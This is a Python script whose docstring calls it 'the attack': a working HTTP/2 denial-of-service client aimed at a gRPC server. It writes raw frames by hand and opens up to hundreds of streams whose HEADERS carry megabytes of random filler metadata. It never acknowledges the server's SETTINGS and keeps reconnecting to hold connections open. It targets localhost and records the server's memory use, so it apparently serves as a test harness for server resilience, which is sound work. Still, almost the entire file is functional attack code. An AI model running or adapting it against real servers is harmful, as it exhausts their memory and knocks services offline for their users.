"""The attack: HTTP/2 connections that never acknowledge the server's SETTINGS and open streams whose
HEADERS carry megabytes of metadata, with no message. Frames are written by hand (HPACK literals
without indexing or Huffman coding), so the client is as fast as the loopback.

    python client.py PORT SERVER_PID --connections 1 --streams 200 --metadata-mb 4 [--for 10]

Prints the server's resident size before, at its peak, and 2 s after the connections closed (then once
more after asking the server to malloc_trim), and how long the server kept the connections open. With
--for, that many connections are kept attacking (each reconnects when the server closes it) for that
many seconds.
"""

import argparse
import json
import os
import signal
import socket
import struct
import threading
import time

import psutil


def literal(string: bytes) -> bytes:
    if len(string) < 127:
        return bytes([len(string)]) + string
    value, out = len(string) - 127, bytearray([127])
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    return bytes(out) + bytes([value]) + string


def headers(stream: int, metadata_bytes: int) -> bytes:
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/test.v1.Echo/Echo")]
    fields += [(b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    fields += [(b"x-filler-%d" % n, os.urandom(2000).hex().encode()) for n in range(metadata_bytes // 4000)]
    block = b"".join(b"\x00" + literal(name) + literal(value) for name, value in fields)
    chunks = [block[start : start + 16384] for start in range(0, len(block), 16384)]
    frames = []
    for index, chunk in enumerate(chunks):
        kind, flags = (0x1 if index == 0 else 0x9), (0x4 if index == len(chunks) - 1 else 0)
        frames.append(struct.pack(">I", len(chunk))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + chunk)
    return b"".join(frames)


def attack(port: int, frames: list[bytes], until: float) -> float:
    """One connection: preface, empty SETTINGS, never an ACK, the streams; returns how long it stayed open."""
    opened = time.monotonic()
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            for frame in frames:
                sock.sendall(frame)
            sock.settimeout(0.5)
            while time.monotonic() < until:
                try:
                    if not sock.recv(65536):
                        break
                except TimeoutError:
                    pass
        except OSError:
            pass
    return time.monotonic() - opened


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", type=int)
    parser.add_argument("server_pid", type=int)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=200)
    parser.add_argument("--metadata-mb", type=float, default=4)
    parser.add_argument("--for", dest="duration", type=float, default=0, help="seconds of reconnecting")
    parser.add_argument("--hold", type=float, default=60, help="longest a connection is kept waiting")
    args = parser.parse_args()
    server = psutil.Process(args.server_pid)
    frames = [headers(2 * n + 1, int(args.metadata_mb * 2**20)) for n in range(args.streams)]
    rss = lambda: round(server.memory_info().rss / 2**20)  # noqa: E731
    before, peak, lifetimes = rss(), 0, []
    until = time.monotonic() + (args.duration or args.hold)

    def attacker() -> None:
        while True:
            lifetimes.append(attack(args.port, frames, until))
            if not args.duration or time.monotonic() >= until:
                return

    threads = [threading.Thread(target=attacker, daemon=True) for _ in range(args.connections)]
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        peak = max(peak, rss())
        time.sleep(0.1)
    time.sleep(2)
    after = rss()
    os.kill(args.server_pid, signal.SIGUSR1)
    time.sleep(1)
    print(
        json.dumps(
            {
                "rss_mb": {"before": before, "peak": peak, "after_close": after, "after_malloc_trim": rss()},
                "connections": len(lifetimes),
                "longest_open_s": round(max(lifetimes), 1),
            }
        )
    )


if __name__ == "__main__":
    main()
